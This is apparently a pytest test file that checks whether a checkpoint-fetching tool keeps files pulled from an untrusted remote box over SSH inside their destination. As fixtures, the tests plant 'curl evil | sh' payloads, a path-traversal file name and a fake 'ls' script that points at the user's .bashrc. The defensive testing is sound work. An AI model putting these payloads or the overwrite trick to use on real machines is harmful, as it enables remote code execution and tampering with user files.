"""Checkpoints that come home over a real SSH server: what the box says is data, and no place on this machine."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from provision.aboard.checkpoints import fetch_newest
from provision.aboard.ship import job_folder
from provision.errors import TransferFailed
from provision.home.checkpoints import steps_at_home
from provision.seam import Box
from provision.ssh import Shell
from remote.contract import CHECKPOINT_DIR, CHECKPOINT_FILES, PROGRESS_FILE, Judged, checkpoint_name, encode
from tests.provision.rigs import rig_of

pytestmark = pytest.mark.box

STEP = 3


@pytest.fixture
def shell(tmp_path: Path) -> Iterator[Shell]:
    with rig_of("local box without namespace", tmp_path / "rig") as rig, rig.connect(rig.up()) as shell:
        yield shell


def written(box: Box) -> Path:
    """A checkpoint on the box."""
    folder = Path(job_folder(box)) / CHECKPOINT_DIR / checkpoint_name(STEP)
    folder.mkdir(parents=True)
    for name in CHECKPOINT_FILES:
        (folder / name).write_bytes(encode(Judged(best_step=None)) if name == PROGRESS_FILE else b"some")
    return folder


def test_it_comes_by_the_names_that_every_checkpoint_has(shell: Shell, tmp_path: Path) -> None:
    """What else lies beside is the box's: a name with a path in it, taken at its word, would be a file anywhere here."""
    there = written(shell.box)
    (there / "more").write_text("curl evil | sh")
    (there / "..\\..\\more").write_text("curl evil | sh")
    fetched = fetch_newest(shell, shell.box, tmp_path / "home")
    assert fetched is not None
    assert fetched.step == STEP
    home = tmp_path / "home" / checkpoint_name(STEP)
    assert {file.name for file in home.iterdir()} == set(CHECKPOINT_FILES)


def test_a_box_that_lies_about_its_names_writes_nowhere(shell: Shell, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Its `ls` is a program of its own, and so is what answers for the file."""
    victim = tmp_path / "user" / ".bashrc"
    victim.parent.mkdir()
    victim.write_text("mine\n")
    there = written(shell.box)
    planted = Path(f"{there}/{victim}")
    planted.parent.mkdir(parents=True)
    planted.write_text("curl evil | sh\n")
    tools = Path(shell.box.folder) / "bin"
    tools.mkdir()
    (tools / "ls").write_text(f"#!/bin/sh\n/bin/ls \"$@\"; echo '{victim}'\n")
    (tools / "ls").chmod(0o755)
    plain = shell.run
    monkeypatch.setattr(shell, "run", lambda command, **more: plain(f"PATH={tools}:$PATH; {command}", **more))
    assert fetch_newest(shell, shell.box, tmp_path / "home") is not None
    assert victim.read_text() == "mine\n"


def test_one_that_lacks_a_file_is_no_checkpoint(shell: Shell, tmp_path: Path) -> None:
    (written(shell.box) / CHECKPOINT_FILES[0]).unlink()
    with pytest.raises(TransferFailed):
        fetch_newest(shell, shell.box, tmp_path / "home")
    assert not steps_at_home(tmp_path / "home")
